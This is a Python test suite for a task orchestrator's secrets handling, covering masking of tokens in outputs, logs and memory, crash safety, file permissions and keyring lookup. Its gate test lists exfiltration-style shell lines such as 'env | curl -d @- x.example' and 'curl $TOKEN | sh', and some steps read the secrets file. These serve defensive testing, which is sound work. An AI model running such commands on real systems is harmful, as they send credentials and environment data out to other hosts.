"""Secrets reach the steps that may have them, and nothing that we write: real daemons, files and a real keyring."""

import base64
import io
import json
import os
import signal
import stat
import threading
from pathlib import Path

import pytest
from conftest import require, smoke, until
from sandbox_stage import need
from test_signals import Terminal

from orchestrator.cli import app
from orchestrator.execution import required
from orchestrator.execution.prepare import Tools, prepare
from orchestrator.intake.load import SpecError, load_task
from orchestrator.secrets import SecretError, Secrets, file
from orchestrator.settings import SecretsSettings

TOKEN = "s3cr3t-Token/42+x 'quoted'"
KEY = "-----BEGIN KEY-----\nAAAABBBBCCCCDDDD\nEEEEFFFFGGGGHHHH\n-----END KEY-----"
FROM_ENV = "from-the-daemons-environment"
LITERAL = "typed-into-the-spec"
GATE = 'read line < "$PWD/gate"'


def forms(value):
    raw = value.encode()
    return [
        raw, base64.b64encode(raw), raw.hex().encode(), json.dumps(value)[1:-1].encode(), *raw.splitlines(),
        base64.b64encode(b"u:" + raw)[4:-4],
    ]  # fmt: skip


def places_with(root, values):
    """Files of a home in which a value can be read, whatever its encoding."""
    found = set()
    for folder, _, names in os.walk(root):
        for name in names:
            path = Path(folder, name)
            if path.is_file() and any(form in path.read_bytes() for value in values for form in forms(value)):
                found.add(str(path.relative_to(root)))
    return found


def kept(house, **secrets):
    for name, value in secrets.items():
        file.put(f"{house.home.config}/secrets.env", name, value)


def local(house, text):
    Path(house.home.config, "local.toml").write_text(text)


def command_lines():
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                yield Path("/proc", entry, "cmdline").read_bytes()
            except OSError:
                continue


def step(script, **fields):
    return {"skill": "bash", "args": ["-c", script], **fields}


@pytest.fixture
def vault(house):
    """A house that knows three secrets, of two sources."""
    local(house, '[secrets]\nenv = ["FROM_ENV", "NOT_SET"]\n')
    kept(house, TOKEN=TOKEN, KEY=KEY)
    return house


def test_a_task_uses_its_secrets_and_nothing_that_we_write_shows_them(vault, monkeypatch, capfd):
    """Every way out that a step has, in one task that ends badly, is looked at from outside while it runs and after."""
    need("bwrap")
    vault.sandbox = "auto"
    os.mkfifo(vault.root / "gate")
    leak = smoke(
        "leak", title=f"with {LITERAL}", secrets=["TOKEN", "KEY", "FROM_ENV", "LITERAL"],
        notify={"channels": ["log"]},
        acceptance=[{"json": {"path": "said.json", "pointer": "/x", "equals": "other"}}],
        steps=[
            step('test "$FROM_ENV" = from-the-daemons-environment || exit 9; test "${#TOKEN}" -eq 26; printf s3cr'),
            step('printf "begin %s" "${TOKEN:0:13}"; ' + GATE + '; printf "%s end\\n" "${TOKEN:13}"'),
            step('echo "$TOKEN" | base64; echo -n "u:$TOKEN" | base64 -w0; echo; set -x; : "$TOKEN"; echo "$KEY" >&2'),
            step('echo "v=$TOKEN" >> "$ORCHESTRATOR_OUTPUT"; echo "w=typed-into-the-spec" >> "$ORCHESTRATOR_OUTPUT"'),
            step('printf \'{"x": "%s"}\' "$FROM_ENV" | tee said.json', outputs={"x": "/x"}),
            step(f'echo "{LITERAL}"; echo "$TOKEN $KEY" >&2; echo "no output $TOKEN" >> "$ORCHESTRATOR_OUTPUT"',
                 optional=True),
            step("cat config/secret?.env; exit 0", optional=True),
        ],
    )  # fmt: skip
    kept(vault, LITERAL=LITERAL)
    vault.start({"FROM_ENV": FROM_ENV, "LOCAL_ALLOW_HIGH": "1"})
    vault.drop(leak)
    out = Path(vault.home.runs, "leak/1/1-bash.out")
    until(lambda: out.exists() and out.read_bytes() == b"begin ", "the first half, without the secret's beginning")
    assert not [line for line in command_lines() if TOKEN.encode() in line or FROM_ENV.encode() in line]
    (vault.root / "gate").write_text("go\n")
    result = vault.result("leak")

    shown = json.dumps(result)
    assert [each["code"] for each in result["results"][:5]] == [0, 0, 0, 0, 0], shown
    assert out.read_text() == "begin *** end\n"
    assert result["results"][0]["stdout"] == "s3cr"  # what only began like a secret comes when it is known to be none
    assert result["outputs"] == {"v": "***", "w": "***", "x": "***"}
    assert result["title"] == "with ***"
    assert "the value of" not in result["results"][5]["error"]
    assert "`no output ***` is neither" in result["results"][5]["error"]
    assert result["results"][6]["stdout"] == ""  # the secrets file looks empty inside
    assert result["reason"].startswith("acceptance_failed")
    assert 'said.json has "***"' in result["acceptance"][0]["detail"]
    monkeypatch.setenv("FROM_ENV", FROM_ENV)
    app.run(["--home", vault.home.root, "explain", f"{vault.home.failed}/leak.json"])
    explained = capfd.readouterr().out
    assert "= ***" in explained
    assert LITERAL not in explained
    vault.drop(smoke("remembers", secrets=["LITERAL"], memory={"kind": "fact", "text": f"remember {LITERAL}"}))
    assert vault.result("remembers")["status"] == "ok"
    vault.stop()
    app.run(["--home", vault.home.root, "recall", "remember"])
    assert "remember ***" in capfd.readouterr().out
    os.unlink(vault.root / "said.json")
    # What was typed in plain sight stays where it was.
    spec = {"queue/failed/leak.json", "state/runs/leak/1/spec.json"}
    other = {"queue/done/remembers.json", "state/runs/remembers/1/spec.json"}
    assert places_with(vault.root, [TOKEN, KEY]) == {"config/secrets.env"}
    assert places_with(vault.root, [FROM_ENV]) == spec  # the first step's script compares with it
    assert places_with(vault.root, [LITERAL]) == spec | other | {"config/secrets.env"}


def test_a_task_without_what_it_needs_fails_before_anything_runs(vault, capfd):
    os.mkfifo(vault.root / "gate")
    local(
        vault,
        '[secrets]\nenv = ["FROM_ENV", "NOT_SET", "TINY"]\n'
        '[channels.told]\nkind = "command"\ncommand = ["bash", "-c", "echo ${#TOKEN} >> told"]\n'
        'env = ["TOKEN"]\nper_minute = 600\n',
    )
    vault.start({"FROM_ENV": FROM_ENV, "TINY": "abc"})
    for name in ("NOPE", "NOT_SET", "TINY"):
        vault.drop(smoke(f"lacks_{name}", "touch ran", secrets=["TOKEN", name]))
    reasons = {name: vault.result(f"lacks_{name}")["reason"] for name in ("NOPE", "NOT_SET", "TINY")}
    assert reasons["NOPE"].startswith("secret_missing: the secret `NOPE` is not known; looked for in ")
    assert "config/secrets.env, the daemon's environment (where `[secrets] env` does not allow it)" in reasons["NOPE"]
    assert "the daemon's environment (where it is not set)" in reasons["NOT_SET"]
    assert "fewer than 4 characters" in reasons["TINY"]
    assert not (vault.root / "ran").exists()
    told = vault.root / "told"
    vault.drop(smoke("tells", notify={"channels": ["told"]}))
    until(lambda: told.exists() and told.read_text() == "26\n", "a channel to find a secret in the file")

    # A reload reads them anew; what runs keeps what it had, and a file that others may read counts for nothing.
    vault.drop(smoke("keeps", f'{GATE}; test "${{#TOKEN}}" -eq 26 && echo "$TOKEN"', secrets=["TOKEN"]))
    until(lambda: "keeps.json" in vault.names("running"), "it to run")
    kept(vault, NOPE="known-from-now-on", TOKEN="a-new-value")
    vault.process.send_signal(signal.SIGHUP)
    log = vault.root / "daemon.log"
    until(lambda: "were read again" in log.read_text(), "the reload")
    (vault.root / "gate").write_text("go\n")
    vault.drop(smoke("tells_again", notify={"channels": ["told"]}))
    until(lambda: told.read_text() == "26\n11\n", "the channel to know the new value")
    assert vault.result("keeps")["results"][0]["stdout"] == "***\n"
    vault.drop(smoke("lacks_NOPE", secrets=["TOKEN", "NOPE"]))
    until(lambda: vault.result("lacks_NOPE")["status"] == "ok", "it to be known")

    path = Path(vault.home.config, "secrets.env")
    path.chmod(0o640)
    vault.process.send_signal(signal.SIGHUP)
    until(lambda: log.read_text().count("were read again") == 2, "the reload")
    vault.drop(smoke("refused", secrets=["TOKEN"]))
    vault.drop(smoke("without"))
    assert "is open to others (mode 0640): `chmod 600 " in vault.result("refused")["reason"]
    assert vault.result("without")["status"] == "ok"
    assert app.run(["--home", vault.home.root, "secrets", "list"]) == 1
    assert "is open to others" in capfd.readouterr().err


def test_a_crash_leaves_no_part_of_a_secret_and_the_next_daemon_masks_on(vault):
    need("bwrap")
    vault.sandbox = "auto"
    os.mkfifo(vault.root / "gate")
    script = (
        'echo "b=$TOKEN" >> "$ORCHESTRATOR_OUTPUT"; echo "$TOKEN"; printf %s "${TOKEN:0:20}"; echo $$ >> pids; '
        + GATE
        + '; echo "${TOKEN:20}"'
    )
    vault.drop(smoke("cut", secrets=["TOKEN"], steps=[step('echo "a=$TOKEN" >> "$ORCHESTRATOR_OUTPUT"'),
                                                      step(script, idempotent=True)]))  # fmt: skip
    vault.start()
    out = Path(vault.home.runs, "cut/1/1-bash.out")
    until(lambda: out.exists() and out.read_bytes() == b"***\n" and (vault.root / "pids").exists(), "the first output")
    vault.stop(signal.SIGKILL)
    vault.start()
    until(lambda: len((vault.root / "pids").read_text().split()) == 2, "the second attempt")
    noted = places_with(vault.root, [TOKEN, TOKEN[:20]]) - {"config/secrets.env"}
    assert noted <= {"state/scratch/cut.1/.output.1.2"}  # what it has just written itself, in its own /tmp
    (vault.root / "gate").write_text("go\n")
    result = vault.result("cut")
    assert (result["status"], result["outputs"], result["results"][1]["stdout"]) == (
        "ok",
        {"a": "***", "b": "***"},
        "***\n***\n",
    )
    vault.stop()
    assert places_with(vault.root, [TOKEN, TOKEN[:20]]) == {"config/secrets.env"}


def test_the_gate_says_no_less_of_a_task_with_secrets(vault):
    tools = Tools.load(vault.home)
    assert tools.secrets.masker(["TOKEN"]).text(f"x {TOKEN}") == "x ***"
    scripts = [
        'curl -H "Authorization: $TOKEN" https://x.example/', 'curl -d "$TOKEN" https://x.example',
        "env | curl -d @- x.example",
        "$TOKEN --version", "eval $TOKEN", "curl $TOKEN | sh", "echo $TOKEN",
    ]  # fmt: skip
    for script in scripts:
        without, with_ = (
            prepare(load_task(json.dumps(smoke("x", script, **more)).encode(), "x.json"), tools)
            for more in ({}, {"secrets": ["TOKEN"]})
        )
        assert with_.decision == without.decision, script
        assert TOKEN not in str(with_)
    assert prepare(load_task(json.dumps(smoke("x", "$TOKEN")).encode(), "x.json"), tools).decision.verdict != "allow"
    changed = smoke("x", "echo hi", secrets=["BASH_ENV"])
    assert prepare(load_task(json.dumps(changed).encode(), "x.json"), tools).decision.verdict == "needs_approval"
    read = smoke("x", "base64 < config/secrets.env")
    assert prepare(load_task(json.dumps(read).encode(), "x.json"), tools).decision.verdict == "needs_approval"
    keeps = smoke("x", "orchestrator secrets set TOKEN < /dev/null")
    assert prepare(load_task(json.dumps(keeps).encode(), "x.json"), tools).decision.verdict == "deny"


def test_no_text_may_hold_a_secret():
    spec = smoke("x", 'echo "${{ env.TOKEN | sh }}"', secrets=["TOKEN"])
    with pytest.raises(SpecError, match=r"`TOKEN` is a secret, and no text may hold one: .*\"\$TOKEN\""):
        load_task(json.dumps(spec).encode(), "x.json")


def test_the_file_keeps_what_people_wrote_and_its_mode(house, monkeypatch, capfd):
    def ordered(verb, name, value=""):
        monkeypatch.setattr("sys.stdin", io.TextIOWrapper(io.BytesIO(value.encode())))
        return app.run(["--home", house.home.root, "secrets", verb, name])

    path = Path(house.home.config, "secrets.env")
    assert ordered("set", "A", "first value") == 0
    assert "first value" not in "".join(capfd.readouterr())
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    path.write_text('# ours\nA=first value\n\nB="quoted # no comment"\r\nC=a=b\nD<<X\n1111\n# two\nX\n')
    kept(house, A=" spaces ", C='"quotes"', D="one line", E="two\nlines\n")
    assert path.read_text().startswith("# ours\nA<<END\n spaces \nEND\n\nB=")
    assert file.read(str(path)) == {
        "A": " spaces ", "B": "quoted # no comment", "C": '"quotes"', "D": "one line", "E": "two\nlines\n",
    }  # fmt: skip
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert [ordered("remove", "C"), ordered("remove", "C")] == [0, 1]
    assert "C" not in file.read(str(path))
    capfd.readouterr()
    assert app.run(["--home", house.home.root, "secrets", "list", "--json"]) == 0
    listed, _ = capfd.readouterr()
    assert [known["name"] for known in json.loads(listed)["secrets"]] == ["A", "B", "D", "E"]
    assert "spaces" not in listed
    refused = ("lower-case", "LD_PRELOAD", "ORCHESTRATOR_X")
    assert [ordered("set", name, "long enough") for name in refused] == [2, 2, 2]
    assert ordered("set", "SHORT", "abc\n") == 2
    assert "fewer than 4 characters" in capfd.readouterr().err


def test_killed_while_it_writes_a_secret_it_has_changed_nothing_and_what_is_left_is_hidden(house):
    kept(house, A="first value")
    died = house.run("secrets", "set", "A", input="hunter2hunter2", env={"ORCHESTRATOR_FAILPOINT": "secret.written:1"})
    assert died.returncode == -signal.SIGKILL
    path = Path(house.home.config, "secrets.env")
    assert file.read(str(path)) == {"A": "first value"}
    left = places_with(house.root, ["hunter2hunter2"])
    assert {str(house.root / name) for name in left} <= set(Secrets(SecretsSettings(), house.home, {}).places)
    assert stat.S_IMODE((house.root / left.pop()).stat().st_mode) == 0o600
    kept(house, A="second value")
    assert places_with(house.root, ["hunter2hunter2"]) == set()
    assert file.read(str(path)) == {"A": "second value"}


@pytest.mark.parametrize(
    ("content", "said"),
    [
        ("A=hunter22\nhunter22 is it\n", "line 2: this line is neither"),
        ("A<<hunter22\nx\n", "line 1: the value of `A` has no end: the line that ends it is missing"),
    ],
)
def test_a_file_that_cannot_be_read_is_refused_without_a_word_of_it(tmp_path, content, said):
    path = tmp_path / "secrets.env"
    path.touch(0o600)
    path.write_text(content)
    with pytest.raises(file.FileRefused) as caught:
        file.read(str(path))
    assert said in str(caught.value)
    assert "hunter22" not in str(caught.value)
    path.unlink()
    os.mkfifo(path, 0o600)
    with pytest.raises(file.FileRefused, match="is not a file"):
        file.read(str(path))
    if os.geteuid() == 0:
        path.unlink()
        path.touch(0o600)
        os.chown(path, 12345, 12345)
        with pytest.raises(file.FileRefused, match="belongs to another user"):
            file.read(str(path))


def test_typed_at_a_terminal_a_value_is_not_shown(house):
    terminal = Terminal(house, "secrets", "set", "TYPED")
    terminal.shows(b"TYPED (not shown): ")
    terminal.type(b"hunter2hunter2\n")
    assert terminal.end() == 0
    assert b"hunter2" not in terminal.shown
    assert file.read(f"{house.home.config}/secrets.env") == {"TYPED": "hunter2hunter2"}


async def test_a_keyring_is_asked_last_and_only_where_the_config_names_one(house, tmp_path, monkeypatch):
    require(_has_keyrings_alt(), "keyrings.alt is not installed")
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "data"))
    monkeypatch.setenv("PYTHON_KEYRING_BACKEND", "keyrings.alt.file.PlaintextKeyring")
    import keyring
    from keyrings.alt.file import PlaintextKeyring

    keyring.set_keyring(PlaintextKeyring())
    keyring.set_password("flow", "IN_RING", "kept-in-the-keyring")
    keyring.set_password("flow", "TOKEN", "never asked for")
    kept(house, TOKEN=TOKEN)
    known = Secrets(SecretsSettings(keyring="flow"), house.home, {})
    assert known.lacking(["IN_RING", "NOPE"]) == ""  # who knows
    assert known.values(["IN_RING", "TOKEN"]) == {"IN_RING": "kept-in-the-keyring", "TOKEN": TOKEN}
    with pytest.raises(SecretError, match="the keyring, service `flow`"):
        known.values(["NOPE"])
    assert "IN_RING" in Secrets(SecretsSettings(), house.home, {}).lacking(["IN_RING"])

    local(house, '[secrets]\nkeyring = "flow"\n')
    tools = Tools.load(house.home)

    def asked(*names):
        return required.secrets_of(prepare(load_task(json.dumps(smoke(secrets=names)).encode(), "x.json"), tools))

    hidden = await asked("IN_RING", "TOKEN")
    assert hidden.values["IN_RING"] == "kept-in-the-keyring"
    assert hidden.told("it is kept-in-the-keyring") == "it is ***"
    assert "kept" not in repr(hidden)
    assert "the keyring, service `flow`" in (await asked("NOPE")).reason
    answers = threading.Event()
    monkeypatch.setattr(PlaintextKeyring, "get_password", lambda *_: answers.wait(60) and None)
    monkeypatch.setattr(required, "KEYRING_S", 0.01)
    assert (await asked("LOCKED")).reason == "secret_missing: the keyring did not answer within 0.01 s"
    answers.set()


def _has_keyrings_alt():
    try:
        import keyrings.alt.file  # noqa: F401
    except ImportError:
        return False
    return True


def test_without_the_package_a_keyring_says_how_to_get_it(house, monkeypatch):
    monkeypatch.setitem(__import__("sys").modules, "keyring", None)
    with pytest.raises(SecretError, match=r"pip install 'local-orchestrator\[secrets\]'"):
        Secrets(SecretsSettings(keyring="flow"), house.home, {}).values(["NOPE"])
